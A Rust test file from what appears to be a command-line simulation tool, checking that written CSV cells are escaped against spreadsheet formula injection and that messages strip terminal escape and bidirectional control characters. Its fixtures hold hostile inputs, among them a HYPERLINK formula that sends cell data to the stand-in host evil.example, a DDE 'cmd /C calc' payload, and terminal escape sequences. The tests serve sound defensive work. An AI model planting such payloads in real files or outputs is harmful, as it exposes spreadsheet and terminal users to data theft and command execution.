//! Untrusted files: no output controls the terminal, and no written cell is a formula.

use super::*;

/// A file whose names are formulas to a spreadsheet.
const FORMULAS: &str = r#"format = 1
extends = "yuecheng-2018"
meta = { id = "x", title = "x" }
[time]
start = "2018-01-01"
end = "2018-02-28"
[data]
communities = """street,name,kind,households
s,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",old,200
s,+1+1,old,200
-s,@SUM(1),old,200
"\t=1+1",=cmd|' /C calc'!A0,old,200
"""
"#;

/// Cells of a table by row, without quotes.
fn cells(text: &str) -> Vec<Vec<String>> {
    let row = |line: &str| {
        let (mut cells, mut quoted) = (vec![String::new()], false);
        for c in line.chars() {
            match c {
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(String::new()),
                c => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    };
    text.trim_start_matches('\u{feff}')
        .lines()
        .map(row)
        .collect()
}

#[test]
fn no_cell_of_a_table_that_is_written_is_a_formula() {
    let here = folder("formulas");
    fs::write(here.join("f.toml"), FORMULAS).unwrap();
    let (code, _, err) = ask(&here, "run f.toml --replications 1 --quiet --out out", "en");
    assert_eq!(code, 0, "{err}");
    for name in ["communities.csv", "series.csv"] {
        let text = fs::read_to_string(here.join("out").join(name)).unwrap();
        let rows = cells(&text);
        assert!(rows.len() > 4 && rows.iter().all(|row| row.len() == rows[0].len()));
        for cell in rows.iter().flatten() {
            let number = cell.parse::<f64>().is_ok();
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(number || !formula, "{name}: {cell}");
        }
    }
    let text = fs::read_to_string(here.join("out/communities.csv")).unwrap();
    let names: Vec<String> = cells(&text)[1..].iter().map(|row| row[2].clone()).collect();
    let given = [
        "'=HYPERLINK(http://evil.example/?&A1,click)",
        "'+1+1",
        "'@SUM(1)",
        "'=cmd|' /C calc'!A0",
    ];
    assert_eq!(names, given);
    let streets: Vec<String> = cells(&text)[1..].iter().map(|row| row[1].clone()).collect();
    assert_eq!(streets, ["s", "s", "'-s", "'=1+1"]);
}

/// Expects messages without control characters when a file or an option contains some.
fn is_plain(text: &str) {
    let steers = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
    assert!(!text.contains(steers), "{text:?}");
}

#[test]
fn what_would_steer_the_terminal_is_refused_once_at_its_place() {
    let escape = "\\u001B]0;owned\\u0007\\u001B[2J";
    let texts = [
        ("key", format!("{HEAD}{SMALL}[params]\n\"{escape}\" = 1\n")),
        ("title", HEAD.replace("\"t\"", &format!("\"{escape}\""))),
        ("name", HEAD.replace("小城", "小\u{202e}城")),
        (
            "label",
            format!(
                "{HEAD}{SMALL}[[shocks]]\nid = \"s\"\nlabel = \"a\\u009Bb\"\ndate = \"2018-02-01\"\ndays = 1\n"
            ),
        ),
        ("id", HEAD.replace("\"m\"", &format!("\"{escape}\""))),
        (
            "rule",
            format!("{HEAD}{SMALL}[rules]\nx = \"fn metric_a(city) {{ 1.0 }} // {escape}\"\n"),
        ),
        (
            "cell",
            table("street,name,kind,households\n甲,乙\u{2066},old,5\n"),
        ),
        (
            "question",
            HEAD.replace("title", "question = \"\\u200F\"\ntitle"),
        ),
    ];
    for (name, text) in texts {
        let (zh, en) = one(name, &text);
        assert!(
            en.contains("error[unseen-character]") && zh.contains("U+"),
            "{name}: {en}"
        );
        assert!(en.contains("f.toml:"), "{name}: {en}");
        is_plain(&zh);
        is_plain(&en);
    }
    // Texts may have several lines, also with Windows line ends.
    taken(
        "lines",
        &format!("{HEAD}{SMALL}").replace("\"t\"", "\"\"\"a\r\n\tb\nc\"\"\""),
    );
    let here = folder("parent");
    fs::write(
        here.join("parent.toml"),
        HEAD.replace("\"t\"", &format!("\"{escape}\"")),
    )
    .unwrap();
    fs::write(here.join("f.toml"), HEAD.replace("yuecheng-2018", "parent")).unwrap();
    let (code, _, err) = ask(&here, "check f.toml", "en");
    assert!(code == 1 && err.contains("broken-parent"), "{err}");
    is_plain(&err);
}

#[test]
fn what_the_user_typed_does_not_steer_the_terminal_either() {
    let here = folder("typed");
    fs::write(here.join("f.toml"), format!("{HEAD}{SMALL}")).unwrap();
    let escape = "\u{1b}[2J\u{202e}";
    let run = "run f.toml --days 7 --replications 1 --quiet".to_owned();
    for line in [
        format!("check {escape}.toml"),
        format!("check f.toml {escape}"),
        format!("{run} --param {escape}=1"),
        format!("{run} --param admin_task_share={escape}"),
        format!("{run} --days {escape}"),
        format!("{run} --backend {escape}"),
        format!("--{escape}"),
        escape.to_owned(),
        format!("{run} --baseline {escape}"),
        format!("{run} --out f.toml/{escape}"),
        format!("parameters --out {escape}"),
    ] {
        let (code, out, err) = ask(&here, &line, "en");
        assert!(code > 0 && !err.is_empty(), "{line:?}");
        is_plain(&out);
        is_plain(&err);
    }
    let (code, out, err) = ask(
        &here,
        &format!("run f.toml --days 7 --replications 1 --out {escape}"),
        "en",
    );
    assert_eq!(code, 0, "{err}");
    is_plain(&out);
    is_plain(&err);
}
